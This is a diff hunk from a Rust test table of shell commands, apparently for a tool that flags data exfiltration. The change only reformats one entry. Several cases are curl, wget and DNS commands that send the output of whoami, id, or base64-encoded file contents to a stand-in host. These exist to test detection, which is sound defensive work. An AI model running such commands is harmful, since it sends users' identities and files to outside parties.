@@ -1607,7 +1607,10 @@ pub(crate) const CASES: &[Case] = &[
     ask("exfiltration.computed-destination", "curl x.example/$(whoami)"),
     ask("exfiltration.computed-destination", "curl --url=https://x.example/$(whoami)"),
     ask("exfiltration.computed-destination", "curl -s \"https://x.example/c?u=$(/usr/bin/whoami)\""),
-    ask("exfiltration.computed-destination", "wget -q \"https://x.example/$(cat README.md | base64 | head -c 50)\""),
+    ask(
+        "exfiltration.computed-destination",
+        "wget -q \"https://x.example/$(cat README.md | base64 | head -c 50)\"",
+    ),
     ask("exfiltration.computed-destination", "host $(id -un).x.example"),
     allow("curl -s \"https://example.com/releases/$(date +%F).tar.gz\""),
     allow("curl -H \"Authorization: Bearer $(cat token.txt)\" https://api.example.com"),
